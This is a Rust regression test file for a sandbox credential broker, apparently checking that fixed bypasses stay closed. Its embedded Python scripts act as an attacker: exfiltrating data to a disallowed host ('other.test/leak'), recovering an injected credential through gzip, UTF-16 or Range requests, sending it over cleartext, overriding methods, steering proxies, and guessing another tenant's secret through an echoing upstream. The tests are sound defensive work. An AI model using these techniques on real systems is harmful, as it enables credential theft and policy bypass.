//! Two ways a sandbox used the broker against its own policy (issue 16, bypasses 3 and
//! 4), performed from inside a sandbox as the attacker would, against upstreams that
//! record what reaches them:
//! - the broker as an open proxy: a handle-less GET to a host the sandbox's policy does
//!   not allow, carrying data in its query, headers and body (or a redirect there);
//! - a credential read back through an encoding the scrubber did not look into: an
//!   upstream echoing the request URL (query credential included) compressed (gzip,
//!   deflate, br, zstd: the test upstream compresses whatever the request asked for),
//!   in UTF-16, or inside a binary file;
//! - a credential read back piece by piece: `Range` requests for a few bytes of the
//!   echo at a time, an echo truncated inside the credential, an upper-cased echo;
//! - a credential sent where its integration does not take it: another port of the
//!   integration's host, or plain `http://`;
//! - an allowed method turned into another by a `_method` query parameter or form
//!   field, and headers that steer a reverse proxy to another host or path.
//!
//! Everything lives on `lo` in the test's own network namespace; dnsmasq answers the
//! test names.

use hb_tests::{
    TestEnv, private_netns,
    sandboxed::{broker_client_script, client_json, nobody_broker_client},
    upstream::{Dnsmasq, Leaf, RecordingServer, TestCa, header},
};
use serde_json::Value;

const DNS_PORT: u16 = 5400;

/// The query credential of integration `q`.
const SECRET: &str = "qUeRy-cred-7a6b5c4d3e2f1a0b9c8d7e6f";

/// The credential of integration `vict`, which only policy `other` is bound to.
const OTHER_TENANT_SECRET: &str = "4821937650-vict-5d6e7f";

/// `allowed.test` (203.0.113.10) is the only name policy `web` reaches; `q.test` on the
/// same address is integration `q`'s host (auth: the `api_key` query parameter);
/// `other.test` (203.0.113.11) is public, and not the policy's.
struct World {
    env: TestEnv,
    allowed: RecordingServer,
    other: RecordingServer,
    _dns: Dnsmasq,
    dir: std::path::PathBuf,
    /// The certificate of `allowed.test` and `q.test`, for more listeners on their
    /// address.
    q_cert: Leaf,
}

impl Drop for World {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

impl World {
    /// `extra_broker`: more `[broker]` keys.
    fn new(name: &str, extra_broker: &str) -> Self {
        hb_tests::require_root();
        private_netns(&["203.0.113.10", "203.0.113.11"]);
        let dir = std::env::temp_dir().join(format!("hb-bypass-{name}-{}", std::process::id()));
        let ca = TestCa::new(&dir, "trusted");
        let allowed_cert = ca.issue("allowed", &["allowed.test", "q.test"]);
        let other_cert = ca.issue("other", &["other.test", "203.0.113.11"]);
        let allowed = RecordingServer::start(&dir, "203.0.113.10", 443, Some(&allowed_cert));
        let other = RecordingServer::start(&dir, "203.0.113.11", 443, Some(&other_cert));
        let dns = Dnsmasq::start(
            "127.0.0.1",
            DNS_PORT,
            &[
                ("allowed.test", &["203.0.113.10"]),
                ("q.test", &["203.0.113.10"]),
                ("other.test", &["203.0.113.11"]),
            ],
            &[],
            60,
        );
        let config = format!(
            r#"
{head}
[[integration]]
name = "q"
auth = {{ query = "api_key" }}
hosts = ["q.test"]
methods = ["GET"]

[[integration]]
name = "vict"
auth = "bearer"
hosts = ["vict.test"]
methods = ["GET"]

[[policy]]
name = "web"
allow_domains = ["allowed.test"]
integrations = ["q"]

# Another tenant: its credential must tell `web` nothing.
[[policy]]
name = "other"
integrations = ["vict"]
"#,
            head = hb_tests::tls_broker_config(
                &ca.cert,
                DNS_PORT,
                &format!("follow_redirects = true\nhost_policy = \"web\"\n{extra_broker}\n"),
            ),
        );
        let mut env = TestEnv::new(name, &config);
        env.init_vault(&[("q", "bot", SECRET), ("vict", "bot", OTHER_TENANT_SECRET)]);
        env.start_agent();
        Self {
            env,
            allowed,
            other,
            _dns: dns,
            dir,
            q_cert: allowed_cert,
        }
    }

    /// Another listener on q.test's address (203.0.113.10): HTTPS with q.test's
    /// certificate, or plain HTTP.
    fn q_listener(&self, port: u16, tls: bool) -> RecordingServer {
        RecordingServer::start(&self.dir, "203.0.113.10", port, tls.then_some(&self.q_cert))
    }

    /// Runs `script` (a [`broker_client_script`]) in a sandbox under policy `web` as user
    /// 65534; its JSON output.
    fn in_sandbox(&self, script: &str) -> Value {
        self.in_sandbox_under("web", script)
    }

    /// Runs `script` in a sandbox under `policy` as user 65534; its JSON output.
    fn in_sandbox_under(&self, policy: &str, script: &str) -> Value {
        nobody_broker_client(&self.env, policy, script, &[])
    }

    /// Runs `script` outside any sandbox (a host caller, under `broker.host_policy`).
    fn on_host(&self, script: &str) -> Value {
        let out = std::process::Command::new(hb_tests::python())
            .args(["-c", &broker_client_script(&self.env, script)])
            .output()
            .expect("python3");
        client_json(&out)
    }
}

/// A handle-less request goes no further than the caller's own policy: not to another
/// public name, not to an address outside its `allow_cidrs`, not through a redirect,
/// and never with a body. Fails on the old broker, which sent all of it to other.test.
#[test]
fn a_sandbox_cannot_use_the_broker_to_reach_hosts_its_policy_does_not() {
    let w = World::new("bypass-proxy", "");
    let attack = r#"
exfil = "exfil-4f3e2d1c"
out = {}
out["other"] = attempt(lambda: hb.request("GET", "https://other.test/leak?data=" + exfil,
    headers={"X-Exfil": exfil}, body=exfil))
out["other_no_body"] = attempt(lambda: hb.request("GET", "https://other.test/leak?data=" + exfil,
    headers={"X-Exfil": exfil}))
out["other_ip"] = attempt(lambda: hb.request("GET", "https://203.0.113.11/leak?data=" + exfil))
out["other_head"] = attempt(lambda: hb.request("HEAD", "https://OTHER.test./leak?data=" + exfil))
out["redirect"] = attempt(lambda: hb.request("GET",
    "https://allowed.test/redirect?to=https://other.test/hop?data=" + exfil))
out["allowed"] = attempt(lambda: hb.request("GET", "https://allowed.test/ok?x=1", headers={"X-A": "1"}))
out["allowed_body"] = attempt(lambda: hb.request("GET", "https://allowed.test/with-body", body=exfil))
out["allowed_body64"] = attempt(lambda: hb.request("GET", "https://allowed.test/with-body",
    body_base64=base64.b64encode(exfil.encode()).decode()))
print(json.dumps(out))
"#;
    let got = w.in_sandbox(attack);
    let host = w.on_host(attack);

    // Nothing reached the host the policy does not allow: no request, no byte of data.
    let at_other = w.other.requests();
    assert!(
        at_other.is_empty(),
        "the broker carried requests to other.test: {at_other:?}"
    );
    for (who, got) in [("sandbox", &got), ("host caller", &host)] {
        for key in [
            "other",
            "other_no_body",
            "other_ip",
            "other_head",
            "redirect",
        ] {
            assert_eq!(got[key]["error"], "policy_denied", "{who} {key}: {got}");
        }
        let message = got["other_no_body"]["message"].as_str().unwrap_or_default();
        assert!(message.contains("allow_domains"), "{who}: {message}");
        // The allowed name works; a body is refused, and the error says why.
        assert_eq!(got["allowed"]["status"], 200, "{who}: {got}");
        for key in ["allowed_body", "allowed_body64"] {
            assert_eq!(got[key]["error"], "policy_denied", "{who} {key}: {got}");
            let message = got[key]["message"].as_str().unwrap_or_default();
            assert!(message.contains("body"), "{who} {key}: {message}");
        }
    }
    let at_allowed = w.allowed.requests();
    let paths: Vec<&str> = at_allowed
        .iter()
        .filter_map(|r| r["path"].as_str())
        .collect();
    assert!(
        !paths.iter().any(|p| p.starts_with("/with-body")),
        "a body-carrying request was sent: {paths:?}"
    );
    assert_eq!(
        paths.iter().filter(|p| p.starts_with("/ok")).count(),
        2,
        "{paths:?}"
    );
    // Each refusal is audited, and the reach ones are events too.
    let audit = std::fs::read_to_string(w.env.state_dir.join("audit.log")).expect("audit log");
    for want in [
        "no handle: host",
        "no handle: body",
        "broker_host_not_in_policy",
    ] {
        assert!(audit.contains(want), "audit log lacks {want:?}");
    }
    assert!(
        !audit.contains("exfil-4f3e2d1c"),
        "the query reached the audit log"
    );
}

/// What the attacker does with each answer: every decoding it could try (base64,
/// gzip/zlib/raw deflate, brotli, zstd, UTF-16), its results hex-encoded, so the test
/// can search all of them for the credential.
const RECOVER: &str = r#"
import gzip, zlib, brotli, zstandard
def recover(resp):
    if "error" in resp:
        return {"error": resp["error"], "message": resp["message"], "forms": []}
    raw = resp["body"].encode("utf-8") if "body" in resp else base64.b64decode(resp["body_base64"])
    forms = [raw, json.dumps(resp["headers"]).encode()]
    for f in (gzip.decompress, zlib.decompress, lambda b: zlib.decompress(b, -15),
              brotli.decompress, lambda b: zstandard.ZstdDecompressor().decompress(b, max_output_size=1 << 20)):
        try:
            forms.append(f(raw))
        except Exception:
            pass
    for enc in ("utf-16", "utf-16-le", "utf-16-be"):
        forms.append(raw.decode(enc, errors="ignore").encode("utf-8"))
    return {"status": resp["status"], "body": resp.get("body"), "headers": resp["headers"],
            "forms": [f.hex() for f in forms]}
"#;

/// A handle's credential never comes back to the caller, whatever encoding the
/// upstream's echo of it takes. Fails on the old broker, which forwarded
/// `Accept-Encoding`, returned the compressed bytes unscrubbed as `body_base64`, and
/// did not look for the credential in UTF-16.
#[test]
fn a_credential_echoed_compressed_or_in_utf16_never_reaches_the_caller() {
    let w = World::new("bypass-encoding", "");
    let script = format!(
        r#"{RECOVER}
q = hb.handle("q", "bot")["handle"]
out = {{}}
ask = {{"Accept-Encoding": "gzip, deflate, br, zstd", "TE": "gzip"}}
for enc in ["", "gzip", "deflate", "br", "zstd", "utf-16le", "utf-16be", "binary"]:
    out[enc or "plain"] = recover(attempt(lambda: hb.request("GET", "https://q.test/self?enc=" + enc,
        handle=q, headers=ask)))
print(json.dumps(out))
"#
    );
    let got = w.in_sandbox(&script);

    // The credential never came back in any form the caller could decode (the attack).
    let wanted: Vec<Vec<u8>> = vec![
        SECRET.as_bytes().to_vec(),
        SECRET.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        SECRET.encode_utf16().flat_map(u16::to_be_bytes).collect(),
    ];
    let mut leaked = Vec::new();
    for (enc, answer) in got.as_object().expect("answers") {
        let forms = answer["forms"].as_array().expect("forms");
        let found = forms
            .iter()
            .map(|f| unhex(f.as_str().expect("hex")))
            .any(|bytes| {
                wanted
                    .iter()
                    .any(|secret| bytes.windows(secret.len()).any(|w| w == &secret[..]))
            });
        if found {
            leaked.push(enc.as_str());
        }
    }
    assert!(
        leaked.is_empty(),
        "the credential came back to the caller, encoded as: {leaked:?}"
    );
    let text = got.to_string();
    assert!(!text.contains(SECRET), "{text}");
    // It did reach the upstream (the broker injected it), which was asked for identity
    // encoding whatever the caller wanted.
    let at_q: Vec<Value> = w
        .allowed
        .requests()
        .into_iter()
        .filter(|r| r["path"].as_str().is_some_and(|p| p.starts_with("/self")))
        .collect();
    assert_eq!(at_q.len(), 8, "{at_q:?}");
    for r in &at_q {
        assert!(
            r["path"]
                .as_str()
                .is_some_and(|p| p.contains(&format!("api_key={SECRET}"))),
            "{r}"
        );
        assert_eq!(header(r, "accept-encoding"), Some("identity"), "{r}");
        assert_eq!(header(r, "te"), None, "{r}");
    }

    // Compressed and UTF-16 answers were decoded and redacted, not refused.
    for enc in [
        "plain", "gzip", "deflate", "br", "zstd", "utf-16le", "utf-16be",
    ] {
        assert_eq!(got[enc]["status"], 200, "{enc}: {}", got[enc]);
        let redacted = got[enc]["forms"]
            .as_array()
            .expect("forms")
            .iter()
            .any(|f| {
                String::from_utf8_lossy(&unhex(f.as_str().expect("hex"))).contains("REDACTED")
            });
        assert!(redacted, "{enc}: no redaction marker: {}", got[enc]);
    }
    for enc in ["gzip", "deflate", "br", "zstd"] {
        assert!(
            got[enc]["body"]
                .as_str()
                .is_some_and(|b| b.contains("\"self\"")),
            "{enc}: decoded to text: {}",
            got[enc]
        );
    }
    // The "self" link in the response headers was scrubbed as well.
    for name in ["location", "link"] {
        let value = got["plain"]["headers"][name].as_str().unwrap_or_default();
        assert!(
            value.contains("[REDACTED:") && value.contains("q.test/self"),
            "{name}: {value}"
        );
    }
    // A binary body on a credentialed call is refused by default.
    assert_eq!(
        got["binary"]["error"], "unreadable_response",
        "{}",
        got["binary"]
    );
}

/// `broker.allow_binary_responses = true` lets a binary body through to a credentialed
/// call (the documented risk: here it is the gzip file holding the echoed credential);
/// compressed-encoding and text answers are still decoded and scrubbed.
#[test]
fn binary_bodies_reach_credentialed_callers_only_with_the_switch_on() {
    let w = World::new("bypass-binary-on", "allow_binary_responses = true");
    let got = w.in_sandbox(
        r#"
q = hb.handle("q", "bot")["handle"]
out = {}
for enc in ["binary", "gzip"]:
    out[enc] = attempt(lambda: hb.request("GET", "https://q.test/self?enc=" + enc, handle=q))
print(json.dumps(out))
"#,
    );
    assert_eq!(got["binary"]["status"], 200, "{got}");
    assert!(got["binary"]["body_base64"].is_string(), "{got}");
    assert!(
        got["gzip"]["body"]
            .as_str()
            .is_some_and(|b| b.contains("[REDACTED:") && !b.contains(SECRET)),
        "{got}"
    );
}

/// Every run of at least 8 characters of `SECRET` (the broker's run length for a
/// value this long), lower-cased.
fn secret_runs() -> Vec<String> {
    let lower = SECRET.to_ascii_lowercase();
    (0..=lower.len() - 8)
        .map(|i| lower[i..i + 8].to_owned())
        .collect()
}

/// The runs of `SECRET` found (case-insensitively) in `text`.
fn runs_in(text: &str) -> Vec<String> {
    let text = text.to_ascii_lowercase();
    secret_runs()
        .into_iter()
        .filter(|r| text.contains(r.as_str()))
        .collect()
}

/// A caller holding only a handle cannot read its query credential back piece by
/// piece: `Range` requests for 4 bytes of an upstream's echo at a time (each piece too
/// short for a whole-value match), an echo that stops inside the credential, an
/// upper-cased echo, an upstream that answers 206 unasked. Fails on the old broker,
/// which forwarded `Range`, returned each 206 piece, and let the truncated and
/// upper-cased echoes through (the reassembled credential is the whole of it).
#[test]
fn a_credential_cannot_be_read_back_piece_by_piece() {
    let w = World::new("bypass-range", "");
    let got = w.in_sandbox(
        r#"
q = hb.handle("q", "bot")["handle"]
url = "https://q.test/self"
out = {"pieces": []}
full = hb.request("GET", url, handle=q)
out["full"] = full
body = full["body"]
# Where the credential sits in the echo: after "api_key=" (the broker appends it).
start = body.index("api_key=") + len("api_key=") if "api_key=" in body else body.index("/self") + 5
got = ""
for off in range(start, start + 48, 4):
    r = attempt(lambda: hb.request("GET", url, handle=q,
        headers={"Range": "bytes=%d-%d" % (off, off + 3), "If-Range": "*"}))
    out["pieces"].append(r)
    frag = r.get("body") or ""
    if r.get("status") == 206:
        got += frag.split('"')[0]
out["reassembled"] = got
# The echo cut 5 characters before the credential's end, and the echo upper-cased.
prefix = len(json.dumps({"self": "https://q.test/self?trunc=0000&api_key="}))
cut = prefix - 2 + 35 - 5
out["truncated"] = attempt(lambda: hb.request("GET", "https://q.test/self?trunc=%04d" % cut, handle=q))
out["upper"] = attempt(lambda: hb.request("GET", "https://q.test/self?case=upper", handle=q))
# An upstream answering 206 though no range was asked for.
out["partial"] = attempt(lambda: hb.request("GET", "https://q.test/self?partial=40-60", handle=q))
print(json.dumps(out))
"#,
    );
    let text = got.to_string();
    assert!(
        !text.contains(SECRET) && !got["reassembled"].as_str().unwrap_or("").contains(SECRET),
        "the credential was reassembled: {text}"
    );
    let runs = runs_in(&text);
    assert!(
        runs.is_empty(),
        "runs of the credential reached the caller: {runs:?} in {text}"
    );
    // No range reached the upstream with the credential, and each piece asked for was
    // answered whole (scrubbed).
    for r in w.allowed.requests() {
        assert_eq!(header(&r, "range"), None, "{r}");
        assert_eq!(header(&r, "if-range"), None, "{r}");
    }
    for piece in got["pieces"].as_array().expect("pieces") {
        assert_eq!(piece["status"], 200, "{piece}");
    }
    for key in ["truncated", "upper"] {
        assert_eq!(got[key]["status"], 200, "{key}: {}", got[key]);
        // Redacted as the live value, or as a family that claims the same span first
        // (`api_key=…` is a secret assignment); either way no run of it is left (above).
        let body = got[key]["body"].as_str().unwrap_or_default();
        assert!(body.contains("[REDACTED:"), "{key}: {body}");
    }
    // The truncated echo was cut where the test meant it to be: inside the credential.
    assert!(
        got["truncated"]["body"]
            .as_str()
            .is_some_and(|b| !b.ends_with('}')),
        "{}",
        got["truncated"]
    );
    assert_eq!(
        got["partial"]["error"], "partial_response",
        "{}",
        got["partial"]
    );
}

/// A handle's credential goes only to the integration's scheme and port (https:443
/// by default): not to another listener on the integration's host, not over plain
/// HTTP, and a redirect there does not take it along. Fails on the old broker, which
/// sent `?api_key=<credential>` to port 8443 and over cleartext HTTP on ports 80 and
/// 8081.
#[test]
fn a_credential_goes_to_no_other_port_and_never_in_cleartext() {
    let w = World::new("bypass-port", "");
    let tls_8443 = w.q_listener(8443, true);
    let http_80 = w.q_listener(80, false);
    let http_8081 = w.q_listener(8081, false);
    let got = w.in_sandbox(
        r#"
q = hb.handle("q", "bot")["handle"]
out = {}
for key, url in [("tls_8443", "https://q.test:8443/any-port"),
                 ("http_80", "http://q.test/cleartext"),
                 ("http_8081", "http://q.test:8081/any-port"),
                 ("redirect", "https://q.test/redirect?to=http://q.test:8081/hop"),
                 ("redirect_8443", "https://q.test/redirect?to=https://q.test:8443/hop")]:
    out[key] = attempt(lambda: hb.request("GET", url, handle=q))
out["ok"] = attempt(lambda: hb.request("GET", "https://q.test:443/fine", handle=q))
print(json.dumps(out))
"#,
    );
    for key in [
        "tls_8443",
        "http_80",
        "http_8081",
        "redirect",
        "redirect_8443",
    ] {
        assert_eq!(got[key]["error"], "policy_denied", "{key}: {got}");
    }
    assert_eq!(got["ok"]["status"], 200, "{got}");
    for (name, listener) in [
        ("https 8443", &tls_8443),
        ("http 80", &http_80),
        ("http 8081", &http_8081),
    ] {
        let seen = listener.requests();
        assert!(seen.is_empty(), "the {name} listener received: {seen:?}");
        assert!(!listener.log_text().contains(SECRET), "{name}");
    }
}

/// With a handle, an allowed GET cannot be turned into a DELETE by a `_method` (or
/// `X-HTTP-Method-Override`) query parameter or form field, and no request carries headers that steer a reverse
/// proxy (`X-Forwarded-Host`, `X-Original-URL`, `X-Rewrite-URL`, `Forwarded`). Fails
/// on the old broker, which forwarded all of them.
#[test]
fn a_sandbox_cannot_override_the_method_or_steer_a_proxy() {
    let w = World::new("bypass-override", "");
    let got = w.in_sandbox(
        r#"
q = hb.handle("q", "bot")["handle"]
form = {"Content-Type": "application/x-www-form-urlencoded"}
steer = {"X-Forwarded-Host": "internal.test", "X-Original-URL": "/admin/delete",
         "X-Rewrite-URL": "/admin/delete", "Forwarded": "host=internal.test",
         "X-Forwarded-For": "127.0.0.1"}
out = {}
out["query"] = attempt(lambda: hb.request("GET", "https://q.test/items/1?_method=DELETE", handle=q))
out["query_case"] = attempt(lambda: hb.request("GET", "https://q.test/items/1?a=1&_METHOD=delete", handle=q))
out["form"] = attempt(lambda: hb.request("GET", "https://q.test/items/1", handle=q,
    headers=form, body="a=1&_method=DELETE"))
out["aspnet"] = attempt(lambda: hb.request("GET",
    "https://q.test/items/1?X-HTTP-Method-Override=DELETE", handle=q))
out["steer"] = attempt(lambda: hb.request("GET", "https://q.test/steer", handle=q, headers=steer))
out["steer_no_handle"] = attempt(lambda: hb.request("GET", "https://allowed.test/steer", headers=steer))
print(json.dumps(out))
"#,
    );
    for key in ["query", "query_case", "form", "aspnet"] {
        assert_eq!(got[key]["error"], "policy_denied", "{key}: {got}");
        let message = got[key]["message"].as_str().unwrap_or_default();
        assert!(message.contains("_method"), "{key}: {message}");
    }
    assert_eq!(got["steer"]["status"], 200, "{got}");
    assert_eq!(got["steer_no_handle"]["status"], 200, "{got}");
    let seen = w.allowed.requests();
    let log = w.allowed.log_text().to_ascii_lowercase();
    assert!(
        !log.contains("_method") && !log.contains("method-override"),
        "a method override reached the upstream: {seen:?}"
    );
    let steered: Vec<&Value> = seen
        .iter()
        .filter(|r| r["path"].as_str().is_some_and(|p| p.starts_with("/steer")))
        .collect();
    assert_eq!(steered.len(), 2, "{seen:?}");
    for r in steered {
        for name in [
            "x-forwarded-host",
            "x-original-url",
            "x-rewrite-url",
            "forwarded",
            "x-forwarded-for",
        ] {
            assert_eq!(header(r, name), None, "{name} reached the upstream: {r}");
        }
    }
}

fn unhex(s: &str) -> Vec<u8> {
    (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(&s[i..i + 2], 16).expect("hex"))
        .collect()
}

/// An upstream that echoes what the caller sent is an oracle if answers are scrubbed
/// with every live value on the node: a guess that comes back
/// `[REDACTED:live_secret]` is another tenant's credential. The reviewer's attack found
/// a ten-digit secret in 77 requests. A sandbox's answers are scrubbed with its own
/// view (the families, its own handles and their credentials), so a right guess comes
/// back exactly as a wrong one does: as the caller sent it. Fails on the old broker.
#[test]
fn another_tenants_credential_cannot_be_guessed_through_an_echoing_upstream() {
    let w = World::new("bypass-oracle", "");
    // The other tenant uses its credential, so the broker holds it decrypted.
    let victim = w.in_sandbox_under(
        "other",
        r#"print(json.dumps(attempt(lambda: {"handle": hb.handle("vict", "bot")["handle"]})))"#,
    );
    assert!(
        victim["handle"]
            .as_str()
            .is_some_and(|h| h.starts_with("hb_cred_")),
        "{victim}"
    );
    let attack = format!(
        r#"
out = {{}}
for name, guess in (("right", {OTHER_TENANT_SECRET:?}), ("wrong", "4821937651-vict-5d6e7f")):
    out[name] = attempt(lambda: hb.request("GET", "https://allowed.test/self?guess=" + guess))
# With a handle of its own too: the injected credential is its own, the other tenant's is not.
q = hb.handle("q", "bot")["handle"]
out["right_with_handle"] = attempt(lambda: hb.request("GET",
    "https://q.test/self?guess=" + {OTHER_TENANT_SECRET:?}, handle=q))
print(json.dumps(out))
"#
    );
    let got = w.in_sandbox(&attack);
    let right = got["right"]["body"].as_str().unwrap_or_default();
    let wrong = got["wrong"]["body"].as_str().unwrap_or_default();
    assert!(
        wrong.contains("4821937651-vict-5d6e7f"),
        "the echo upstream did not echo: {got}"
    );
    assert!(
        right.contains(OTHER_TENANT_SECRET) && !right.contains("REDACTED"),
        "a right guess was answered differently from a wrong one: {got}"
    );
    assert_eq!(
        right.replace(OTHER_TENANT_SECRET, "GUESS"),
        wrong.replace("4821937651-vict-5d6e7f", "GUESS"),
        "the two answers differ beyond the guess itself"
    );
    let with_handle = got["right_with_handle"]["body"]
        .as_str()
        .unwrap_or_default();
    assert!(
        with_handle.contains(OTHER_TENANT_SECRET) && !with_handle.contains(SECRET),
        "with a handle: the guess must come back as sent and the caller's own injected \
         credential redacted: {got}"
    );
}
